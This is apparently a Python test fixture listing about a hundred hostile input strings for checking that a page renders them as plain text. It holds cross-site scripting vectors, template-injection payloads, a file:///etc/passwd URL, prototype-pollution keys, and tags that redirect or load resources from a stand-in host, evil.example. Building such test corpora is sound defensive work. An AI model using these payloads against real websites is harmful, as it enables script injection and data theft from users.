"""A hundred texts that would do harm if a page took them for anything but text. ``trip`` writes down that it ran."""

from __future__ import annotations

MARKUP = (
    "<script>trip('script')</script>", '"><img src=x onerror=trip(1)>', "</script><script>trip(2)</script>",
    "<svg onload=trip(3)>", "<a href=javascript:trip(5)>x</a>", "<iframe srcdoc='<script>trip(6)</script>'>",
    "]]><script>trip(7)</script>", "<!--<script>", "--><script>trip(8)</script>", "<style>*{display:none}</style>",
    "<base href=https://evil.example>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<img src=https://evil.example/x.png>", "<object data=x>",
    "<math><mtext></mtext><script>trip(14)</script></math>", "<details open ontoggle=trip(16)>",
    "<video><source onerror=trip(17)>", "</title><script>trip(18)</script>", "</style><script>trip(19)</script>",
    "<template><script>trip(20)</script></template>", "<noscript><p title='</noscript><img src=x onerror=trip(21)>'>",
    "<b>bold</b>", "<form action=https://evil.example><button>go</button></form>", "<plaintext>", "<xmp><script>trip(25)</script>",
    "</textarea><script>trip(26)</script>", "<svg><script>trip(27)</script></svg>", "<svg><a xlink:href=javascript:trip(28)><text>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=trip(29)></foreignObject></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=trip(30)>#x'/></svg>",
    "<svg><animate onbegin=trip(31) attributeName=x dur=1s>", "<math href=javascript:trip(32)>x</math>", "<embed src=javascript:trip(33)>",
    "<frameset onload=trip(34)>", "<table background=javascript:trip(35)>", "<input autofocus onfocus=trip(36)>",
    "<select autofocus onfocus=trip(37)>", "<marquee onstart=trip(38)>", "<audio src=x onerror=trip(39)>",
    "<img src=x:x onerror\x0b=trip(40)>", "<img/src=x/onerror=trip(41)>", "<IMG SRC=x ONERROR=trip(42)>", "<<script>trip(43)//<</script>",
    "<scr<script>ipt>trip(44)</scr</script>ipt>", "<img src=`x` onerror=trip(45)>", "<div style=background:url(https://evil.example/y)>",
    "<p style='animation:x' onanimationstart=trip(46)>", "<body onload=trip(47)>", "<link rel=import href=https://evil.example/z>",
)  # fmt: skip
CODE = (
    "javascript:trip(4)", "JaVaScRiPt:trip(50)", "java\tscript:trip(51)", " javascript:trip(52)", "vbscript:trip(23)",
    "data:text/html,<script>trip(22)</script>", "data:text/html;base64,PHNjcmlwdD50cmlwKDUzKTwvc2NyaXB0Pg==", "blob:https://evil.example/1",
    "file:///etc/passwd", "//evil.example/x", "https://evil.example@good.example/", "http://user:pass@evil.example/", "{{7*7}}{% raw %}",
    "{{constructor.constructor('trip(54)')()}}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "${trip(9)}", "#{trip(55)}",
    "`;trip(10);//", "';trip(11);//", '";trip(56);//', "\\';trip(57);//", "\\u003cscript\\u003etrip(12)", "\\x3cscript\\x3etrip(58)",
    "&lt;script&gt;trip(15)&lt;/script&gt;", "&#60;script&#62;trip(59)", "%3Cscript%3Etrip(24)%3C/script%3E", "+ADw-script+AD4-trip(60)",
    "href", "__proto__", "constructor", "toString", "hasOwnProperty", "*/trip(61)/*", "</*/script>trip(62)", "@import 'https://evil.example/a.css';",
    "url(https://evil.example/b)", "expression(trip(63))",
)  # fmt: skip
LETTERS = (
    "\u202etrap\u202c", "\u2066a\u2069", "\u2028trip(13)\u2029", "a\x00b", "\ud800", "𝕏" * 300, "\u200b\u200c\u200d\ufeff", "e\u0301" * 80,
    "Z̸͓͚a̷l̶g̵o̸" * 9, "\u0007\u001b[31mred", "ＪＡＰＡＮ＜ｓｃｒｉｐｔ＞", "عنوان" * 20, "line\r\nbreak\ttab",
)  # fmt: skip
HOSTILE = (*MARKUP, *CODE, *LETTERS)
